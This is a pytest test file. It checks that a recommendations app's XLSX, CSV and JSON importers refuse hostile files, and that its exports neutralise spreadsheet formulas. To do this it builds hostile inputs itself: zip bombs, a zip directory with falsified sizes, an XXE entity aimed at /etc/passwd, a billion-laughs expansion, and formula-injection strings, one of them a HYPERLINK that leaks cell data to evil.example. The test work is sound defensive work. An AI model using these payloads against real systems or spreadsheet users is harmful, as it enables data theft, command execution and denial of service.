"""Importers fed with malformed and hostile files fail safely: a clear error the import records as its
reason (UhriFormatError or SpreadsheetFormatError, both ValueError), raised before a single row is
handed out when the file as a whole is bad; a row-level issue naming the row and the column when one
row is bad. Exports never write a cell a spreadsheet would run as a formula."""

import base64
import csv
import io
import json
import random
import re
import struct
import time
import tracemalloc
import zipfile
from xml.sax.saxutils import escape

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from nmirf_app.core import spreadsheet
from nmirf_app.core.implementation_matrix import COLUMNS, write_matrix_xlsx
from nmirf_app.core.recommendation_import import ImportCandidate, RowIssue, read_candidates
from nmirf_app.core.recommendation_template import write_template
from nmirf_app.core.spreadsheet import SpreadsheetFormatError, write_csv
from nmirf_app.core.uhri_format import UHRI_XLSX_HEADERS, UhriFormatError

FORMAT_ERROR = {
	"uhri-xlsx": UhriFormatError,
	"uhri-json": UhriFormatError,
	"upr-info-csv": SpreadsheetFormatError,
	"template": SpreadsheetFormatError,
}
XLSX_SOURCES = ("uhri-xlsx", "template")
SHEET = "xl/worksheets/sheet1.xml"
SHEET_START = (
	b'<?xml version="1.0" encoding="UTF-8"?>'
	b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
	b'<dimension ref="A1:S3"/><sheetData>'  # as Excel writes it; without it openpyxl parses all at once
)
SHEET_END = b"</sheetData></worksheet>"
# The largest message the Recommendation Import's Small Text fields store comfortably.
STORABLE_MESSAGE = 2_000
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = (
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C notepad'!'A1'",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\x01=1+1",  # a control character in front hides the formula from a naive check
)


# Files built the way a hostile or broken file arrives: by hand, not through openpyxl (which would
# cut a cell at 32,767 characters and escape everything).


def row_xml(number: int, values) -> bytes:
	cells = "".join(
		f'<c r="{get_column_letter(index)}{number}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'
		for index, value in enumerate(values, start=1)
		if value is not None
	)
	return f'<row r="{number}">{cells}</row>'.encode()


def sheet_xml(rows) -> list[bytes]:
	return [SHEET_START, *(row_xml(number, row) for number, row in enumerate(rows, start=1)), SHEET_END]


def write_xlsx(path, sheet_chunks, *, leave_out=()):
	"""An .xlsx whose first sheet's XML is streamed from `sheet_chunks`, the other parts as Excel
	needs them; level 1 compression keeps building a bomb of hundreds of MB under a second."""
	skeleton = io.BytesIO()
	Workbook().save(skeleton)
	with (
		zipfile.ZipFile(skeleton) as source,
		zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
	):
		for info in source.infolist():
			if info.filename != SHEET and info.filename not in leave_out:
				target.writestr(info.filename, source.read(info))
		with target.open(SHEET, "w") as sheet:
			for chunk in sheet_chunks:
				sheet.write(chunk)
	return path


def bomb_chunks(megabytes: int):
	"""A sheet of a header row and the same row repeated: `megabytes` MB of XML that deflates ~170:1."""
	yield SHEET_START + row_xml(1, ["Mechanism", "Text", *UHRI_XLSX_HEADERS])
	chunk = b"<row><c><v>1</v></c></row>" * 40_000  # ~1 MB
	for _ in range(megabytes):
		yield chunk
	yield SHEET_END


def declare_size(path, member: str, size: int):
	"""Make the zip directory lie: `member` claims to expand to `size` bytes, in both its local header
	and the central directory, whatever its data really expands to."""
	data = bytearray(path.read_bytes())
	with zipfile.ZipFile(path) as archive:
		offset = archive.getinfo(member).header_offset
	struct.pack_into("<I", data, offset + 22, size)
	name = member.encode()
	position = data.find(b"PK\x01\x02")
	while position != -1:
		name_length = struct.unpack_from("<H", data, position + 28)[0]
		if data[position + 46 : position + 46 + name_length] == name:
			struct.pack_into("<I", data, position + 24, size)
		position = data.find(b"PK\x01\x02", position + 4)
	path.write_bytes(bytes(data))


def refusal(source_type, source, context, *, before_any_row=True) -> str:
	"""The message the import of `source` is refused with, of the error class the import records as
	its reason; by default the file must be refused before any row is handed out (nothing imported)."""
	handed_out = []
	with pytest.raises(FORMAT_ERROR[source_type]) as raised:
		for item in read_candidates(source_type, source, context):
			handed_out.append(item)
	if before_any_row:
		assert handed_out == []
	message = str(raised.value)
	assert len(message) < STORABLE_MESSAGE
	return message


def split(items):
	items = list(items)
	return (
		[item for item in items if isinstance(item, ImportCandidate)],
		[item for item in items if isinstance(item, RowIssue)],
	)


def noise(length: int, seed: int = 8) -> str:
	"""Text that compresses like real text does, not a thousandfold like "xxxx…" (XML-safe)."""
	return base64.b64encode(random.Random(seed).randbytes(length * 3 // 4 + 3)).decode()[:length]


def measured(action):
	"""(result or raised error, seconds, peak traced bytes) of `action()`: timed once as it runs,
	then traced once, as tracing slows some parsers tenfold."""

	def outcome():
		try:
			return action()
		except Exception as error:
			return error

	started = time.perf_counter()
	outcome()
	seconds = time.perf_counter() - started
	tracemalloc.start()
	try:
		return outcome(), seconds, tracemalloc.get_traced_memory()[1]
	finally:
		tracemalloc.stop()


# Broken workbooks


def truncated_workbook(tmp_path):
	path = write_xlsx(tmp_path / "whole.xlsx", sheet_xml([["Mechanism", "Text"], ["CRC", "1. Do."]]))
	data = path.read_bytes()
	return data[: len(data) // 2]


def zip_without_workbook(tmp_path):
	buffer = io.BytesIO()
	with zipfile.ZipFile(buffer, "w") as archive:
		archive.writestr("notes.txt", "Meeting notes")
	return buffer.getvalue()


def xlsx_without_workbook_part(tmp_path):
	chunks = sheet_xml([["Mechanism", "Text"]])
	return write_xlsx(tmp_path / "no-workbook.xlsx", chunks, leave_out={"xl/workbook.xml"}).read_bytes()


BROKEN_WORKBOOKS = {
	"an empty file": lambda tmp_path: b"",
	"a PDF renamed .xlsx": lambda tmp_path: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n",
	"a CSV renamed .xlsx": lambda tmp_path: b"Text,Reccomending Body\n1. Something,CRC\n",
	"an old .xls (OLE2) file": lambda tmp_path: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
	"a truncated download": truncated_workbook,
	"a zip without a workbook": zip_without_workbook,
	"a zip without its workbook part": xlsx_without_workbook_part,
}


@pytest.mark.parametrize("source_type", XLSX_SOURCES)
@pytest.mark.parametrize("broken", list(BROKEN_WORKBOOKS))
def test_a_file_that_is_no_workbook_is_refused_before_any_row(tmp_path, import_context, source_type, broken):
	data = BROKEN_WORKBOOKS[broken](tmp_path)
	message = refusal(source_type, io.BytesIO(data), import_context)
	assert "Excel Workbook (.xlsx)" in message


@pytest.mark.parametrize("source_type", XLSX_SOURCES)
def test_a_damaged_part_is_refused_before_any_row(tmp_path, import_context, source_type):
	rows = [["Mechanism", "Text", *UHRI_XLSX_HEADERS]] + [
		["CRC", f"{n}. Do.", f"{n}. Do."] for n in range(2, 500)
	]
	path = write_xlsx(tmp_path / "damaged.xlsx", sheet_xml(rows))
	data = bytearray(path.read_bytes())
	with zipfile.ZipFile(path) as archive:
		info = archive.getinfo(SHEET)
	# Flip bytes in the middle of the sheet's compressed data, as a bad disk or transfer does.
	middle = info.header_offset + 30 + len(SHEET) + info.compress_size // 2
	data[middle : middle + 8] = bytes(255 - byte for byte in data[middle : middle + 8])
	message = refusal(source_type, io.BytesIO(bytes(data)), import_context)
	assert f"workbook is damaged: its part {SHEET}" in message


@pytest.mark.parametrize("source_type", XLSX_SOURCES)
def test_a_sheet_whose_xml_breaks_off_is_refused_with_the_last_row_read(
	tmp_path, import_context, source_type
):
	rows = [["Mechanism", "Text", *UHRI_XLSX_HEADERS], ["CRC", "1. Do.", "1. Do."]]
	chunks = [SHEET_START, *(row_xml(n, row) for n, row in enumerate(rows, start=1)), b'<row r="3"><c r="A3"']
	path = write_xlsx(tmp_path / "broken-xml.xlsx", chunks)
	message = refusal(source_type, path, import_context, before_any_row=False)
	assert "cannot be read after row 2" in message


@pytest.mark.parametrize("source_type", XLSX_SOURCES)
@pytest.mark.parametrize("header", [[], ["Name", "E-mail", "Phone"], ["Txet", "Mechansim", "Symbol"]])
def test_a_sheet_without_its_header_row_is_refused(tmp_path, import_context, source_type, header):
	path = write_xlsx(tmp_path / "headers.xlsx", sheet_xml([header, ["CRC", "1. Do.", "x"]]))
	message = refusal(source_type, path, import_context)
	assert (
		"Not a UHRI export" if source_type == "uhri-xlsx" else "Not a recommendations template"
	) in message


def test_a_header_row_thousands_of_columns_wide_gives_a_message_that_can_be_stored(tmp_path, import_context):
	header = ["Text", *(f"Column number {index} with a long and useless name" for index in range(16_000))]
	path = write_xlsx(tmp_path / "wide.xlsx", sheet_xml([header]))
	message = refusal("uhri-xlsx", path, import_context)
	assert "missing the column(s) Reccomending Body, Document Symbol" in message
	assert message.count("Column number") < 100


# Entity attacks inside the XML of a sheet


def test_an_external_entity_never_reads_a_server_file(tmp_path, import_context):
	chunks = [
		b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
		b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
		row_xml(1, ["Mechanism", "Text"]),
		b'<row r="2"><c r="A2" t="inlineStr"><is><t>CRC</t></is></c>'
		b'<c r="B2" t="inlineStr"><is><t>1. &secret;</t></is></c></row>',
		SHEET_END,
	]
	path = write_xlsx(tmp_path / "xxe.xlsx", chunks)
	message = refusal("template", path, import_context)
	assert "declares a DTD" in message and "root:" not in message


def test_an_entity_expansion_bomb_is_refused_quickly_in_little_memory(tmp_path, import_context):
	entities = "".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
	chunks = [
		f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol0 "lol">{entities}]>'.encode()
		+ SHEET_START.split(b"?>", 1)[1],
		row_xml(1, ["Mechanism", "Text"]),
		b'<row r="2"><c r="A2" t="inlineStr"><is><t>CRC</t></is></c>'
		b'<c r="B2" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
		SHEET_END,
	]
	path = write_xlsx(tmp_path / "laughs.xlsx", chunks)
	outcome, seconds, peak = measured(lambda: list(read_candidates("template", path, import_context)))
	assert isinstance(outcome, SpreadsheetFormatError), outcome
	assert "declares a DTD" in str(outcome)
	assert seconds < 5 and peak < 50_000_000


def test_openpyxl_itself_refuses_an_entity_should_a_dtd_get_past_the_scan(tmp_path):
	"""The second line behind the scan above: with defusedxml installed (a dependency of the app),
	openpyxl parses sheets with it, as its documentation advises."""
	from defusedxml import EntitiesForbidden

	chunks = [
		b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol">]>' + SHEET_START.split(b"?>", 1)[1],
		b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol;</t></is></c></row>',
		SHEET_END,
	]
	with pytest.raises(ValueError) as refused:
		workbook = load_workbook(write_xlsx(tmp_path / "entity.xlsx", chunks), read_only=True)
		list(workbook.active.iter_rows(values_only=True))
	causes = [refused.value]
	while causes[-1].__cause__ or causes[-1].__context__:
		causes.append(causes[-1].__cause__ or causes[-1].__context__)
	assert any(isinstance(cause, EntitiesForbidden) for cause in causes), causes


# Zip bombs: refused from the zip directory, before anything is decompressed


@pytest.fixture(scope="module")
def bomb(tmp_path_factory):
	"""A 300 MB sheet in a 2 MB file."""
	return write_xlsx(tmp_path_factory.mktemp("bomb") / "uhri-export.xlsx", bomb_chunks(300))


@pytest.mark.parametrize("source_type", XLSX_SOURCES)
def test_a_zip_bomb_is_refused_at_once_in_little_memory(bomb, import_context, source_type):
	assert bomb.stat().st_size < 5_000_000
	outcome, seconds, peak = measured(lambda: read_candidates(source_type, bomb, import_context))
	assert isinstance(outcome, FORMAT_ERROR[source_type]), outcome
	assert "refused before reading it: it expands to 29" in str(outcome)
	assert "export one State's recommendations at a time" in str(outcome)
	assert seconds < 5 and peak < 50_000_000, f"{seconds:.1f} s, peak {peak / 1e6:.0f} MB"


def test_a_small_part_that_expands_a_hundredfold_is_refused(tmp_path, import_context):
	path = write_xlsx(tmp_path / "ratio.xlsx", bomb_chunks(20))
	with zipfile.ZipFile(path) as archive:
		info = archive.getinfo(SHEET)
	assert info.file_size < spreadsheet.MAX_XLSX_UNCOMPRESSED < info.file_size * 20
	message = refusal("template", path, import_context)
	assert f"its part {SHEET} expands" in message and "as a zip bomb does" in message


def test_the_size_limit_holds_whatever_the_ratio(tmp_path, import_context, monkeypatch):
	rows = [["Mechanism", "Text"], *(["CRC", f"{n}. {noise(500, n)}"] for n in range(2, 5000))]
	path = write_xlsx(tmp_path / "big.xlsx", sheet_xml(rows))
	assert len(candidates_of(path, import_context)) == 4998  # read at the real limit
	monkeypatch.setattr(spreadsheet, "MAX_XLSX_UNCOMPRESSED", 1 << 20)
	message = refusal("template", path, import_context)
	assert re.search(
		r"it expands to \d\.\d MB\. An export of recommendations expands to at most 1\.0 MB", message
	)


def candidates_of(path, context):
	candidates, _issues = split(read_candidates("template", path, context))
	return candidates


def test_a_zip_directory_that_lies_about_sizes_is_refused_before_any_row(tmp_path, import_context):
	path = write_xlsx(tmp_path / "liar.xlsx", bomb_chunks(50))
	declare_size(path, SHEET, 200_000)  # passes the directory checks: small, and a ratio under 1
	outcome, seconds, peak = measured(lambda: read_candidates("template", path, import_context))
	assert isinstance(outcome, SpreadsheetFormatError), outcome
	assert f"workbook is damaged: its part {SHEET}" in str(outcome)
	assert seconds < 5 and peak < 50_000_000, f"{seconds:.1f} s, peak {peak / 1e6:.0f} MB"


def test_a_workbook_of_many_parts_is_refused(tmp_path, import_context, monkeypatch):
	monkeypatch.setattr(spreadsheet, "MAX_XLSX_PARTS", 8)
	path = write_xlsx(tmp_path / "parts.xlsx", sheet_xml([["Mechanism", "Text"]]))
	assert "parts, more than the 8 accepted" in refusal("template", path, import_context)


# Huge cells: the row is refused whole and named, the other rows are imported


TEMPLATE_HEADER = ["Mechanism", "Text", "Document symbol", "Themes"]


@pytest.mark.parametrize(
	("row", "column", "length"),
	[
		(["CRC", "1. " + noise(5_000_000), "", ""], "Text", 5_000_003),
		(["CRC", "2. Ensure access to water.", "CRC/C/" + "PRY" * 100, ""], "Document symbol", 306),
		(["CRC" * 1000, "3. Ensure access to water.", "", ""], "Mechanism", 3000),
	],
)
def test_a_huge_cell_fails_its_row_naming_row_and_column(tmp_path, import_context, row, column, length):
	path = write_xlsx(tmp_path / "huge.xlsx", sheet_xml([TEMPLATE_HEADER, row, ["CRC", "4. Ratify the OP."]]))
	candidates, issues = split(read_candidates("template", path, import_context))
	[issue] = issues
	assert (issue.row_number, issue.field, issue.fatal) == (2, column, True)
	assert f"holds {length:,} characters" in issue.message
	assert "nothing of this row was imported" in issue.message
	assert len(issue.value) <= spreadsheet.MAX_ECHOED_CHARACTERS
	assert [candidate.values["recommendation_text"] for candidate in candidates] == ["4. Ratify the OP."]


def test_the_longest_text_excel_holds_is_imported_whole(tmp_path, import_context):
	text = "1. " + "word " * 6_552  # 32,763 characters: under Excel's 32,767
	path = write_xlsx(tmp_path / "long.xlsx", sheet_xml([TEMPLATE_HEADER, ["CRC", text]]))
	[candidate] = candidates_of(path, import_context)
	assert candidate.values["recommendation_text"] == text.strip()


def test_a_huge_unknown_theme_is_a_short_warning(tmp_path, import_context):
	path = write_xlsx(
		tmp_path / "theme.xlsx", sheet_xml([TEMPLATE_HEADER, ["CRC", "1. Do.", "", noise(1_000_000)]])
	)
	[candidate] = candidates_of(path, import_context)
	[warning] = candidate.warnings
	assert (warning.row_number, warning.field, warning.fatal) == (2, "Themes", False)
	assert len(warning.message) < 500 and len(warning.value) <= spreadsheet.MAX_ECHOED_CHARACTERS


def test_a_cell_of_thousands_of_unknown_values_is_read_quickly(tmp_path, import_context):
	themes = ";".join(f"unknown theme {index}" for index in range(3_000))
	path = write_xlsx(tmp_path / "themes.xlsx", sheet_xml([TEMPLATE_HEADER, ["CRC", "1. Do.", "", themes]]))
	started = time.perf_counter()
	[candidate] = candidates_of(path, import_context)
	assert time.perf_counter() - started < 5
	assert candidate.themes == [] and candidate.warnings


# Wrong types: the issue names the row and the column


def test_uhri_cells_of_the_wrong_type_name_row_and_column(tmp_path, import_context):
	header = list(UHRI_XLSX_HEADERS)
	row = dict.fromkeys(header)
	row.update(
		{"Text": "1. Ensure water.", "Reccomending Body": "- CRC", "Document Symbol": "- CRC/C/PRY/CO/6"}
	)
	rows = [
		header,
		[{**row, "Document Publication Date": "last Tuesday"}[name] for name in header],
		[{**row, "Text": "  "}[name] for name in header],
		[{**row, "Reccomending Body": "12345"}[name] for name in header],
	]
	path = write_xlsx(tmp_path / "types.xlsx", sheet_xml(rows))
	candidates, issues = split(read_candidates("uhri-xlsx", path, import_context))
	assert candidates == []
	assert [(issue.row_number, issue.field) for issue in issues] == [
		(2, "Document Publication Date"),
		(3, "Text"),
		(4, "Reccomending Body"),
	]
	assert "last Tuesday" in issues[0].message and "'12345'" in issues[2].message


def test_template_number_or_nothing_where_a_mechanism_is_expected_names_row_and_column(
	tmp_path, import_context
):
	path = write_xlsx(tmp_path / "types.xlsx", sheet_xml([TEMPLATE_HEADER, [42, "1. Do."], [None, "2. Do."]]))
	_candidates, issues = split(read_candidates("template", path, import_context))
	assert [(issue.row_number, issue.field, issue.value) for issue in issues] == [
		(2, "Mechanism", "42"),
		(3, "Mechanism", ""),
	]


@pytest.mark.parametrize(
	("record", "column", "words"),
	[
		({"PublicationDate": "soon"}, "Document Publication Date", "Not a date"),
		({"PublicationDate": [1, 2]}, "Document Publication Date", "Expected one date"),
		({"Text": {"html": "<p>1. Do.</p>"}}, "Text", "found a JSON object"),
		({"Text": None}, "Text", "empty"),
		({"UprCycle": "the third"}, "UprCycle", "Not a UPR cycle"),
	],
)
def test_json_values_of_the_wrong_type_name_record_and_field(import_context, record, column, words):
	good = {"Text": "1. Ensure water.", "Body": "CRC", "Symbol": "CRC/C/PRY/CO/6"}
	data = json.dumps([good, {**good, **record}]).encode()
	candidates, issues = split(read_candidates("uhri-json", io.BytesIO(data), import_context))
	assert len(candidates) == 1
	[issue] = issues
	assert (issue.row_number, issue.field) == (2, column)
	assert words in issue.message


# UPR Info CSV


UPR_HEADER = "Recommendation,State under Review,Recommending State,Response,Cycle\r\n"
UPR_ROW = "Ratify the Optional Protocol to CAT,Paraguay,Maldives,Supported,3\r\n"


@pytest.mark.parametrize(
	("data", "words"),
	[
		(
			(UPR_HEADER + "Ratify \x00the OP,Paraguay,Maldives,Supported,3\r\n").encode(),
			"NUL character on line 2",
		),
		((UPR_HEADER + UPR_ROW).encode("utf-16-le"), "NUL character on line 1"),  # UTF-16 without BOM
		(b"PK\x03\x04" + b"\x00" * 100, "an Excel workbook or another zip archive"),
		((UPR_HEADER + '"' + "x" * 200_000 + ",Paraguay\r\n").encode(), "Line 2 of the file cannot be read"),
		(b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n", "no 'Recommendation' column"),
		(b"", "no 'Recommendation' column"),
	],
)
def test_a_file_that_is_no_upr_info_csv_is_refused_before_any_row(import_context, data, words):
	assert words in refusal("upr-info-csv", io.BytesIO(data), import_context)


def test_a_csv_row_after_an_enormous_field_is_never_imported(import_context):
	"""A broken line near the end refuses the whole file: the rows above it are not half-imported."""
	data = (UPR_HEADER + UPR_ROW * 300 + "x" * 140_000 + ",Paraguay\r\n").encode()
	assert "Line 302" in refusal("upr-info-csv", io.BytesIO(data), import_context)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "latin-1", "cp1252"])
def test_csv_in_other_encodings_imports_its_accents(import_context, encoding):
	text = "Recommendation\tState under Review\tRecommending State\r\nGarantizar el acceso al agua en Ñeembucú\tParaguay\tPerú\r\n"
	data = ("\ufeff" + text).encode("utf-16-be") if encoding == "utf-16-be" else text.encode(encoding)
	[candidate] = candidates_of_csv(data, import_context)
	assert candidate.values["recommendation_text"] == "Garantizar el acceso al agua en Ñeembucú"
	assert candidate.recommending_states == ["Peru"]


def candidates_of_csv(data, context):
	candidates, issues = split(read_candidates("upr-info-csv", io.BytesIO(data), context))
	assert [issue for issue in issues if issue.fatal] == []
	return candidates


def test_a_huge_csv_cell_fails_its_row_naming_row_and_column(import_context):
	data = (UPR_HEADER + "y" * 100_000 + ",Paraguay,Maldives,Supported,3\r\n" + UPR_ROW).encode()
	candidates, issues = split(read_candidates("upr-info-csv", io.BytesIO(data), import_context))
	[issue] = issues
	assert (issue.row_number, issue.field) == (2, "Recommendation")
	assert "holds 100,000 characters, more than the 32,767" in issue.message
	assert [candidate.row_number for candidate in candidates] == [3]


def test_a_csv_header_of_thousands_of_columns_gives_a_message_that_can_be_stored(import_context):
	data = (",".join(f"Column {index}" for index in range(50_000)) + "\r\n1,2\r\n").encode()
	assert "no 'Recommendation' column" in refusal("upr-info-csv", io.BytesIO(data), import_context)


# UHRI JSON


@pytest.mark.parametrize(
	("data", "words"),
	[
		(b'[{"Text": "1. Ensure water.", "Body": "CRC", "Symbol": "CRC/C/PRY/CO/6"', "Malformed JSON"),
		(b'[{"Text": "1. Ensure wat', "Malformed JSON"),
		(b"[" * 100_000, "nested too deeply"),
		(b'{"results": ' + b"[" * 100_000, "nested too deeply"),
		(b'{"results": {"Text": "1. Do."}}', "no array of records"),
		(b"42", "starts with '[' or '{'"),
		(b"", "starts with '[' or '{'"),
		(b"<html><body>502 Bad Gateway</body></html>", "starts with '[' or '{'"),
		('[{"Text": "1. Comité"}]'.encode("utf-16"), "not UTF-8"),
		('[{"Text": "1. Comité"}]'.encode("latin-1"), "not UTF-8"),
	],
)
def test_a_file_that_is_no_uhri_json_is_refused(import_context, data, words):
	assert words in refusal("uhri-json", io.BytesIO(data), import_context)


def test_a_json_record_nested_to_the_decoders_limit_never_crashes(import_context):
	good = b'{"Text": "1. Ensure water.", "Body": "CRC", "Symbol": "CRC/C/PRY/CO/6"'
	for depth in (200, 500, 900, 990):
		nested = b"[" * depth + b'"Paraguay"' + b"]" * depth
		data = b"[" + good + b", " + b'"Countries": ' + nested + b"}]"
		try:
			candidates, issues = split(read_candidates("uhri-json", io.BytesIO(data), import_context))
		except UhriFormatError as error:
			assert "nested too deeply" in str(error)
		else:
			assert len(candidates) + len(issues) == 1


def test_control_characters_of_a_json_export_never_reach_a_recommendation(import_context):
	data = json.dumps(
		[{"Text": "1. Ensure\u0000 water\u0007.", "Body": "CRC", "Symbol": "CRC/C/PRY/CO/6\u001b"}]
	)
	[candidate] = candidates_of_json(data.encode(), import_context)
	assert candidate.values["recommendation_text"] == "1. Ensure water."
	assert candidate.values["document_symbol"] == "CRC/C/PRY/CO/6"


def candidates_of_json(data, context):
	candidates, issues = split(read_candidates("uhri-json", io.BytesIO(data), context))
	assert issues == []
	return candidates


# Formula injection in what the app writes


def formula_cells(workbook_bytes):
	"""(sheet, coordinate, value) of every cell a spreadsheet would evaluate or start as a formula."""
	workbook = load_workbook(io.BytesIO(workbook_bytes))
	found = []
	for sheet in workbook.worksheets:
		for row in sheet.iter_rows():
			for cell in row:
				if cell.data_type == "f" or (
					isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
				):
					found.append((sheet.title, cell.coordinate, cell.value))
	return found


def test_the_implementation_matrix_writes_no_formula(import_context):
	records = [
		{
			column.key: text if column.key not in ("themes", "sdg_targets") else [text, "Water"]
			for column in COLUMNS
		}
		for text in HOSTILE_TEXTS
	]
	content = write_matrix_xlsx(records, title='=HYPERLINK("http://evil.example")')
	assert formula_cells(content) == []
	sheet = load_workbook(io.BytesIO(content)).active
	assert sheet.cell(row=2, column=2).value == "'" + HOSTILE_TEXTS[0]
	assert sheet.cell(row=8, column=2).value == "'=1+1"  # the control character dropped, then made text


def test_the_template_keeps_hostile_labels_as_text_for_its_dropdowns(tmp_path):
	buffer = io.BytesIO()
	labels = [text for text in HOSTILE_TEXTS if text.isprintable()]
	write_template(buffer, mechanisms=labels, themes=labels, affected_groups=labels, sdg_targets=["16.3"])
	workbook = load_workbook(io.BytesIO(buffer.getvalue()))
	assert [
		cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
	] == []
	lists = workbook["Lists"]
	# The dropdowns offer the labels exactly, so that a chosen one matches the site's list on import.
	assert [lists.cell(row=row, column=1).value for row in range(2, len(labels) + 2)] == labels


def test_csv_exports_never_start_a_cell_with_a_formula():
	content = write_csv(
		["Reference", "Recommendation"], [[index, text] for index, text in enumerate(HOSTILE_TEXTS)]
	)
	assert content.startswith(b"\xef\xbb\xbf")
	rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
	assert rows[0] == ["Reference", "Recommendation"]
	for _reference, text in rows[1:]:
		assert text.startswith("'") and not text.startswith(FORMULA_STARTS)


def test_the_issues_of_a_hostile_file_are_written_as_text(tmp_path, import_context):
	"""The issues CSV a desk user downloads quotes the file's own values: they must stay text."""
	texts = [text for text in HOSTILE_TEXTS if text.isprintable()]  # what XML text can hold
	rows = [[text, f"{number}. Do.", "", text] for number, text in enumerate(texts, start=1)]
	path = write_xlsx(tmp_path / "hostile.xlsx", sheet_xml([TEMPLATE_HEADER, *rows]))
	_candidates, issues = split(read_candidates("template", path, import_context))
	assert [(issue.field, issue.value) for issue in issues] == [("Mechanism", text) for text in texts]
	content = write_csv(
		["Row", "Column", "Reason", "Value"],
		([issue.row_number, issue.field, issue.message, issue.value] for issue in issues),
	)
	rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1:]
	assert len(rows) == len(texts)
	assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
